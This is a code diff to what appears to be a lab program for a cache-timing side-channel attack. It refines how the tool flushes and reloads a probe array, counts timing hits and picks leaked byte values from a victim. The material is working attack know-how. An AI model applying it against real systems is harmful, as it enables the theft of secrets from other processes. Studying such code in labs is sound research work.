@@ -214,6 +214,9 @@ static int trainings(void)
 #ifndef PROBED
 #define PROBED VALUES
 #endif
+#ifndef LEAD
+#define LEAD 1 /* hits */
+#endif
 #ifndef SPACING
 #define SPACING STRIDE
 #endif
@@ -224,28 +227,57 @@ u8 probe[VALUES * SPACING] __attribute__((aligned(PAGE)));
 static u8 after_probe[PAGE] __attribute__((aligned(PAGE)));
 
 static u32 threshold;
-static u32 hits[VALUES];
+static u32 hits[VALUES]; /* by value, and those that have any */
+static u16 hit[VALUES];
+static u32 hit_count;
 static u8 ignored[VALUES]; /* lines that the victim touches when it does what it may */
 static u16 reloads[PROBED];
 static u32 histogram[1024];
 
 static void flush_probe(void)
 {
-    for (u64 value = 0; value < PROBED; value++)
-        flush(probe + value * SPACING);
+    for (u64 value = 0; value < PROBED; value += 8) {
+        u8 *line = probe + value * SPACING;
+        flush(line);
+        flush(line + SPACING);
+        flush(line + 2 * SPACING);
+        flush(line + 3 * SPACING);
+        flush(line + 4 * SPACING);
+        flush(line + 5 * SPACING);
+        flush(line + 6 * SPACING);
+        flush(line + 7 * SPACING);
+    }
     fence();
+}
+
+static void count_hit(u32 value)
+{
+    if (!hits[value]++)
+        hit[hit_count++] = value;
+}
+
+static void forget_hits(void)
+{
+    while (hit_count)
+        hits[hit[--hit_count]] = 0;
 }
 
 /* Times every line, in an order that no prefetcher guesses; counts those that were there already. */
 static void reload_probe(void)
 {
-    for (u64 i = 0; i < PROBED; i++) {
-        u64 value = (i * 167 + 13) % PROBED;
-        u32 cycles = time_of_load(probe + value * SPACING);
-        reloads[value] = cycles < 1023 ? cycles : 1023;
-        histogram[reloads[value]]++;
-        hits[value] += (cycles < threshold) & !ignored[value];
+    static u16 found[PROBED + 1];
+    u64 count = 0, quick = threshold;
+    for (u64 i = 0, value = 13; i < PROBED; i++, value = (value + 167) % PROBED) {
+        u64 cycles = time_of_load(probe + value * SPACING);
+        cycles = pick(cycles > 1023, 1023, cycles);
+        reloads[value] = cycles;
+        histogram[cycles]++;
+        found[count] = value;
+        count += cycles < quick; /* no branch, which could be predicted */
     }
+    while (count--)
+        if (!ignored[found[count]])
+            count_hit(found[count]);
 }
 
 static u32 median(u16 *values, u64 count)
@@ -296,13 +328,14 @@ static int best_value(u32 lead)
 {
     u32 best = 0, second = 0;
     int value = -1;
-    for (int i = 0; i < VALUES; i++) {
-        if (hits[i] > best) {
+    for (u32 i = 0; i < hit_count; i++) {
+        u32 count = hits[hit[i]];
+        if (count > best) {
             second = best;
-            best = hits[i];
-            value = i;
-        } else if (hits[i] > second) {
-            second = hits[i];
+            best = count;
+            value = hit[i];
+        } else if (count > second) {
+            second = count;
         }
     }
     return best >= second + lead ? value : -1;
@@ -426,7 +459,7 @@ static void leak(u64 bytes, u64 most_tries, u32 lead)
     u64 all = 0;
     for (u64 index = 0; index < bytes; index++) {
         int value = -1;
-        memset(hits, 0, sizeof hits);
+        forget_hits();
         for (u64 tries = 0; tries < most_tries && value < 0; tries++, all++) {
             attempt(index);
             receive();
@@ -446,7 +479,7 @@ __attribute__((used)) static void lab_main(u64 *stack)
     const char **arguments = (const char **)stack + 1;
     u64 bytes = parse(count > 1 ? arguments[1] : 0, 4, MOST);
     u64 tries = parse(count > 2 ? arguments[2] : 0, 10, 1000000);
-    u32 lead = parse(count > 3 ? arguments[3] : 0, 2, 1000);
+    u32 lead = parse(count > 3 ? arguments[3] : 0, LEAD, 1000);
     before_probe[0] = after_probe[0] = 1;
     say("who ");
     say(ABOUT);
